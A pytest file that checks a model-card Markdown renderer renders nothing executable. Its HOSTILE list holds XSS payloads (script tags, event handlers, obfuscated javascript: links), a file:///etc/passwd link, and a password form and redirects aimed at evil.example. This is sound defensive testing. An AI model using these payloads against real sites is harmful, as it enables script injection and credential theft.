# SPDX-License-Identifier: Apache-2.0
"""Model cards are rendered so that nothing in them can act, or is fetched from elsewhere."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from registry.catalog.content import cards

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](http://plain.example)",
    "[x](ftp://host/x)",
    "<javascript:alert(1)>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "![x](https://tracker.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x)',
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>\nalert(1)\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
]


class Elements(HTMLParser):
    """What a browser would build of a card."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(cards.render(markdown))
    return parser.found


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_in_a_card_can_act(markdown: str) -> None:
    for tag, attributes in elements(markdown):
        assert tag in cards.TAGS
        assert attributes.keys() <= {"href", "rel", "start"}
        href = attributes.get("href")
        assert href is None or href.startswith(("https://", "mailto:"))


def test_an_ordinary_card_reads_well() -> None:
    html = cards.render(
        "# Title\n\nSome *text* and `code`, [a link](https://example.org).\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n"
    )
    for part in ("<h1>Title</h1>", "<em>text</em>", "<code>code</code>", "<table>", "<ol>"):
        assert part in html
    assert 'href="https://example.org"' in html
    assert 'rel="nofollow noopener noreferrer ugc"' in html


def test_front_matter_is_for_programs() -> None:
    html = cards.render("---\nlicense: mit\ntags: [x]\n---\n# Title\n")
    assert "license" not in html
    assert "<h1>Title</h1>" in html


def test_an_image_is_its_alternative_text() -> None:
    html = cards.render("![a <curve> that falls](https://example.org/x.png)")
    assert "<img" not in html
    assert "example.org" not in html
    assert "a &lt;curve&gt; that falls" in html


def test_brackets_without_end_take_no_time() -> None:
    assert "[" in cards.render("[" * 20_000)
